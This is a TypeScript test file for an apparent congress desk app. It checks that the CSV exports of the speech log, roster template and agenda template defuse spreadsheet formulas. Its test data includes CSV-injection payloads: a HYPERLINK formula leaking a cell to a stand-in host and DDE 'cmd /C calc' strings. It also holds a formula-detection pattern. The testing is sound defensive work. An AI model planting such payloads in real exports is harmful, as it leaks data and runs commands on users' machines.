// Every CSV file the desk offers for download, not only the writer: what people typed (names,
// organisations, titles) and could begin like a spreadsheet formula reaches Excel as text. Each
// export is made as the desk makes it and read back as a spreadsheet program would split it.

import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import i18next from 'i18next';
import { describe, expect, test } from 'vitest';
import { LANGUAGES, type Language } from '../domain/congress/model.js';
import { resources } from '../i18n/resources.js';
import { createCongress } from '../domain/congress/commands.js';
import { importRoster } from '../domain/roster/commands.js';
import { callSpeaker, endSpeech, openDiscussion, registerSpeech } from '../domain/speakers/commands.js';
import { speechLog } from '../domain/speakers/log.js';
import { TestDesk, congressInput, delegateFields } from '../../tests/support/domain.js';
import { readCsv } from '../import/csv.js';
import { decodeText } from '../import/sniff.js';
import { rosterTemplate } from '../roster/template.js';
import { agendaTemplateFile } from '../agenda/template-file.js';
import { speechLogCsv } from '../speakers/log-csv.js';
import type { CsvSeparator } from './csv.js';

/** How a spreadsheet program reads the file: decoded, split into cells (the roster reader does both). */
function cellsOf(content: string): string[][] {
  const decoded = decodeText(new TextEncoder().encode(content));
  if (decoded.kind !== 'text') throw new Error('the export is not text');
  return readCsv(decoded.text.replace(/^\uFEFF/, ''))
    .rows.map((row) => row.map((cell) => String(cell ?? '')))
    .filter((row) => row.some((cell) => cell !== ''));
}

/** A cell Excel would run: it begins with a formula sign (or a tab or carriage return before one). */
const RUNS_AS_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

async function translate(language: Language) {
  const i18n = i18next.createInstance();
  await i18n.init({ lng: language, resources, interpolation: { escapeValue: false } });
  return (key: string, params: Record<string, unknown>) => i18n.t(key, params);
}

describe('the speech log (Speakers → Speech log → Download CSV)', () => {
  // A value in every column that people type, each beginning with another formula sign.
  const HOSTILE = {
    discussion: '=HYPERLINK("http://example.invalid?leak="&A1,"Bấm")',
    name: "+cmd|' /C calc'!A0",
    code: '@SUM(1+1)',
    organisation: '-2+3+cmd|\' /C calc\'!A0',
    title: '\uFF1D1+1 Tham luận',
    guest: '=1+1',
    guestTitle: '+84 912 345 678',
    request: '\t=1+1',
  };

  function hostileLog() {
    const desk = new TestDesk().at('2026-07-23T01:00:00.000Z');
    desk.run(createCongress, congressInput());
    desk.run(importRoster, { fileName: 'r.csv', delegates: [delegateFields(HOSTILE.code, { fullName: HOSTILE.name, organisation: HOSTILE.organisation })] });
    const delegateId = [...desk.state.roster.delegates.keys()][0] ?? '';
    const { discussionId } = desk.run(openDiscussion, { sittingId: 'am', title: HOSTILE.discussion, agendaItemId: null, firstTimeSpeakersFirst: false });
    desk.run(registerSpeech, { discussionId, speaker: { kind: 'delegate', delegateId }, kind: 'preparedContribution', title: HOSTILE.title, document: '', limitSeconds: null });
    desk.run(registerSpeech, { discussionId, speaker: { kind: 'guest', name: HOSTILE.guest, title: HOSTILE.guestTitle }, kind: 'floorRequest', title: HOSTILE.request, document: '', limitSeconds: null });
    const first = desk.at('2026-07-23T02:00:00.000Z').run(callSpeaker, { discussionId }).speechId;
    desk.at('2026-07-23T02:07:00.000Z').run(endSpeech, { speechId: first });
    const second = desk.at('2026-07-23T02:08:00.000Z').run(callSpeaker, { discussionId }).speechId;
    desk.at('2026-07-23T02:10:00.000Z').run(endSpeech, { speechId: second });
    return speechLog(desk.state, Date.parse('2026-07-23T02:11:00.000Z'));
  }

  test.each(LANGUAGES.flatMap((language) => ([',', ';', '\t'] as const).map((separator) => [language, separator] as const)))(
    'every typed value is text to Excel (%s, separator %j)',
    async (language, separator: CsvSeparator) => {
      const rows = cellsOf(speechLogCsv(hostileLog(), await translate(language), separator));
      expect(rows).toHaveLength(3);
      const [, delegate, guest] = rows;
      // Columns: number, discussion, speaker, code, detail, kind, title, …
      expect(delegate?.slice(1, 5)).toEqual([`'${HOSTILE.discussion}`, `'${HOSTILE.name}`, `'${HOSTILE.code}`, `'${HOSTILE.organisation}`]);
      expect(delegate?.[6]).toBe(`'${HOSTILE.title}`);
      expect(guest?.slice(1, 5)).toEqual([`'${HOSTILE.discussion}`, `'${HOSTILE.guest}`, '', `'${HOSTILE.guestTitle}`]);
      expect(guest?.[6]).toBe(`'${HOSTILE.request}`);
      expect(rows.flat().filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
    },
  );
});

describe.each(LANGUAGES)('the templates offered for download (%s)', (language) => {
  test('the roster template (Delegates → Import → Download the template)', () => {
    const rows = cellsOf(rosterTemplate(language).content);
    expect(rows.length).toBeGreaterThan(1);
    expect(rows.flat().filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
  });

  test('the agenda template (Agenda → Download the agenda template)', () => {
    const rows = cellsOf(agendaTemplateFile(language).content);
    expect(rows.length).toBeGreaterThan(1);
    expect(rows.flat().filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
  });
});

describe('the list of exports', () => {
  const root = fileURLToPath(new URL('../../', import.meta.url));
  function sources(folder: string): string[] {
    return readdirSync(path.join(root, folder)).flatMap((name) => {
      const relative = path.join(folder, name);
      if (statSync(path.join(root, relative)).isDirectory()) return sources(relative);
      return /\.tsx?$/.test(name) && !/\.test\.tsx?$/.test(name) ? [relative.split(path.sep).join('/')] : [];
    });
  }
  const read = (file: string) => readFileSync(path.join(root, file), 'utf8');

  test('every module that writes CSV is one this file tests, and writes through the one writer', () => {
    const writers = sources('shared').filter((file) => file !== 'shared/export/csv.ts' && /\btoCsv\(|\bcsvCell\(/.test(read(file)));
    expect(writers.sort()).toEqual(['shared/agenda/template-file.ts', 'shared/roster/template.ts', 'shared/speakers/log-csv.ts']);
    for (const file of writers) expect(read(file), file).toMatch(/from '\.\.\/export\/csv\.js'/);
  });

  test('every download of a CSV in the renderer offers one of those files', () => {
    const downloads = sources('renderer/src').filter((file) => read(file).includes("'text/csv"));
    expect(downloads.sort()).toEqual(['renderer/src/features/agenda/AgendaView.tsx', 'renderer/src/features/roster/template-download.ts', 'renderer/src/features/speakers/log-download.ts']);
    expect(read('renderer/src/features/agenda/AgendaView.tsx')).toContain('agendaTemplateFile(');
    expect(read('renderer/src/features/roster/template-download.ts')).toContain('rosterTemplate(');
    expect(read('renderer/src/features/speakers/log-download.ts')).toContain('speechLogCsv(');
  });
});
